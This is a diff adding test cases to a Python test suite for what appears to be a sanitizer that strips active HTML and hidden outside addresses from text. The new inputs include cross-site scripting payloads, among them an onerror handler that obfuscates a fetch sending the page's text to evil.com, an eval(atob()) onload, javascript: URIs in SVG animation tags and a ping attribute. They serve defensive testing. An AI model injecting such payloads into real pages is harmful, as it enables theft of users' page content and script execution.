@@ -49,6 +49,7 @@ def test_an_address_from_outside_is_taken_out_and_words_stay(text: str, left: st
         "a < b && c > d, 5//2, and/or, C:\\\\x, 10:30, a & b",
         "[write](mailto:bob@corp.example)",
         "<meta charset='utf-8'> <meta name=viewport content='width=device-width'>",
+        "if x <y and once = 1: <b title='on time'>",
         "a &amp; b &lt;i&gt; &#47;&#47; x[0]: // y = 5 // 2, d = {'a': b:c} <i>i</i>",
     ],
 )
@@ -151,6 +152,12 @@ def test_a_form_that_no_pattern_knows_hides_no_address(text: str) -> None:
         (f'a <meta http-equiv=refresh content="0;url={HIDDEN}"> b', "a  b"),
         ('<style>@import "\\2f\\2f evil.com/x"</style>', '@import "\\2f\\2f evil.com/x"'),
         ('a <base href="//evil.com"> b', "a  b"),
+        ("a <img src=x onerror=\"fetch('htt'+'ps:/'+'/evil.com/?'+document.body.innerText)\"> b", "a  b"),
+        ("a <svg/onload=eval(atob('aHR0'))> b", "a  b"),
+        ('a <img alt=">" src="x"OnLoad\n=x()> b', "a  b"),
+        ("a <script>open('x')</script> b", "a open('x') b"),
+        ("<svg><animate attributeName=href values=javascript:x /><set to=javascript:x></svg>", "<svg></svg>"),
+        ("a <a href=/x ping=https:evil.com>x</a>", "a x</a>"),
         ("&lt;script&gt; ![]b](&#47;&#47;evil.com)", "&lt;script&gt; ![]b]([address removed])"),
     ],
 )
@@ -166,6 +173,8 @@ def test_a_number_too_long_for_a_sign_is_no_failure() -> None:
 @pytest.mark.proves("E-REDTEAM-JUDGED")
 def test_an_address_is_shown_where_a_renderer_loads_or_links_it_and_not_where_it_is_named() -> None:
     assert addresses_shown("![a](https:/evil.com) <b title=x>") == {"https:/evil.com"}
+    acting = '<img src="https://evil.com/x" onerror=f()>'
+    assert addresses_shown(acting) == {"https://evil.com/x"}
     assert addresses_shown("see https://evil.com/x, [there](/here)") == frozenset()
 
 
@@ -193,6 +202,9 @@ SLOW = [
     "h\t",
     "<b style=",
     "<b style",
+    "<b onxx ",
+    "<b " + "on" * 12 + " ",
+    " onxxxx",
     "<meta ",
 ]
 
